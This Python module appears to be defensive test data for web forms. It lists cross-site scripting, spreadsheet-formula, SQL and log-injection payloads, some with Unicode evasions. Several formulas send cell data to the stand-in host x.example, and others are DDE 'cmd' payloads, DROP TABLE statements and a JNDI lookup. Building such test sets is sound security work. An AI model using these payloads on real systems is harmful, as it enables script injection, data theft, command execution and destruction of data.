"""Words that somebody sends to do harm, written for our own forms; `alert` and `boom` stand for whatever they would do.

None holds more than three digits in a row beside a secret word, or a citizen ID: free words take all of them.
"""

ZERO_WIDTH, TURN_LEFT, SOFT_HYPHEN, MARK = "\u200b", "\u202e", "\u00ad", "\u0301"

# Out of an attribute, out of a textarea, out of a comment, into a handler, a script, an address, a template.
MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1) `",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</dd></dl><iframe srcdoc='<script>alert(1)</script>'>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<a href=javascript:alert(1)>กดที่นี่</a>",
    "<form action=//x.example><button>ส่ง</button>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<style>@import '//x.example/a.css'</style>",
    "<math><mtext></form><form><mglyph><svg><style><img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    f"<scr{ZERO_WIDTH}ipt>alert(1)</scr{ZERO_WIDTH}ipt>",
    f"<{SOFT_HYPHEN}img src=x one{ZERO_WIDTH}rror=alert(1)>",
    f"{TURN_LEFT}>tpircs/<)1(trela>tpircs<",
    f"น\u0e4d\u0e49\u0e32\"><b{MARK} onclick=alert(1)>",
    "เเ<b>ทดสอบ</b>",
    "<\x00script>alert(1)</script>",
)  # fmt: skip

# What a spreadsheet would work out, ask a server for, or run (OWASP ASVS 5.0, 1.2.10).
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"กดดูผล\")",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.example/\"&A1)",
    "=cmd|' /C boom'!A1",
    "+cmd|' /C boom'!A1",
    "=DDE(\"cmd\";\"/C boom\";\"x\")",
    "-2+3+cmd|' /C boom'!A1",
    "@SUM(1+1)*cmd|' /C boom'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\"=1+1\"",
    "\",=1+1,\"",
    "'=1+1",
    "''=1+1",
    "สมหญิง\n=1+1",
    "ก,\"\n=1+1",
    f"{ZERO_WIDTH}=1+1",
    f"{TURN_LEFT}=1+1",
    "\ufeff=1+1",
    f"\u2066{SOFT_HYPHEN}\u200f@SUM(1)",
    "\x01=1+1",
    "= cmd|' /C boom'!A1",
    "=ก1+ข1",
    "=๑+๑",
    "%0A=1+1",
    "−1+1",
    "_x003D_1+1",
)  # fmt: skip

# Out of a text, to another statement, to another row; both engines.
SQL = (
    "'; DROP TABLE trainer_signup; --",
    "\"; DROP TABLE help_request; --",
    "x'); DELETE FROM audit; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "' UNION SELECT key FROM idempotency --",
    "'||(SELECT group_concat(name) FROM sqlite_master)||'",
    "$1; SELECT pg_sleep(9); --",
    "$body$; DROP TABLE audit; $body$",
    "\\'; DROP TABLE audit; --",
    "%s %(name)s ?1 :name @name",
    "'; ATTACH DATABASE 'x' AS y; --",
    "'; COPY audit TO PROGRAM 'boom'; --",
    "ʼ; DROP TABLE audit; --",
    "＇; DROP TABLE audit; --",
    f"'{ZERO_WIDTH};{ZERO_WIDTH} DROP TABLE audit; --",
    "น\u0e4d\u0e49\u0e32'; DROP TABLE audit; --",
    "x\x00'; DROP TABLE audit; --",
)  # fmt: skip

# To forge a line of a log, to break its JSON, to colour or turn what is read at a terminal.
LOGS = (
    "x\r\n{\"level\": \"INFO\", \"message\": \"boom\"}",
    "x\nINFO forms_api: boom",
    "x\u2028INFO boom",
    "x\u0085INFO boom",
    "\", \"level\": \"CRITICAL\", \"boom\": \"",
    "\\\", \\\"level\\\": \\\"CRITICAL",
    "\x1b[31mboom\x1b[0m\x1b]0;boom\x07",
    "\x9b31mboom",
    f"{TURN_LEFT}moob",
    "\u2067boom\u2069",
    "boom\x08\x08\x08\x08",
    "%(asctime)s %s %d {boom} ${jndi:ldap://x.example}",
    "เเรงงาน\u0e4d\u200bboom",
)  # fmt: skip

ALL = (*MARKUP, *FORMULAS, *SQL, *LOGS)
